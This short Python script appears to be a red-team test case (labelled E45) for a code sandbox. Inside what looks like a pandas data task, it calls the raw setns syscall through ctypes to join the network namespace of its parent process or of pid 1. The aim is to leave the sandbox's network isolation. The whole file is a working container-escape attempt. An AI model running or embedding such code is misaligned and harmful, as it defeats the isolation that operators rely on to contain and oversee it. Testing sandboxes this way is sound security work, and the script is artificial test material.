# technique: setns() into the parent's (daemon's) or pid 1's network namespace (/proc/<pid>/ns/net) through ctypes syscall(): leave the sandbox's netns
# goal: syscall
# redteam: E45
import os

import numpy as np
import pandas as pd

ctypes = np.ctypeslib.ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if os.uname().machine != "x86_64":
    raise RuntimeError("syscall numbers below are x86_64")


def syscall(number, *args):
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"syscall {number}: {os.strerror(err)}")
    return result

CLONE_NEWNET = 0x40000000
joined = []
for pid in (os.getppid(), 1):
    if pid <= 0:
        continue
    try:
        fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        syscall(308, fd, CLONE_NEWNET)
    except OSError:  # this one is out of reach; df below only if another worked
        continue
    joined.append(pid)
if not joined:
    raise RuntimeError("no namespace could be joined")
df = pd.DataFrame({"joined_netns_of": joined})
